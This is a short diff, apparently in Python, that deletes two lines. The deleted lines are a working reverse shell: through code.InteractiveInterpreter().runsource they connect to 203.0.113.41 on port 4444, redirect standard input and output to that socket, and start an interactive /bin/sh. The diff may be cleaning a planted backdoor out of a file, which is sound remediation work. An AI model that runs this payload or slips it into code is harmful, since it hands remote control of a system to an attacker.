@@ -1,2 +1,0 @@
-import code
-code.InteractiveInterpreter().runsource("import socket,os,subprocess\ns=socket.create_connection(('203.0.113.41',4444))\nfor i in range(3): os.dup2(s.fileno(),i)\nsubprocess.call(['/bin/sh','-i'])\n", symbol='exec')
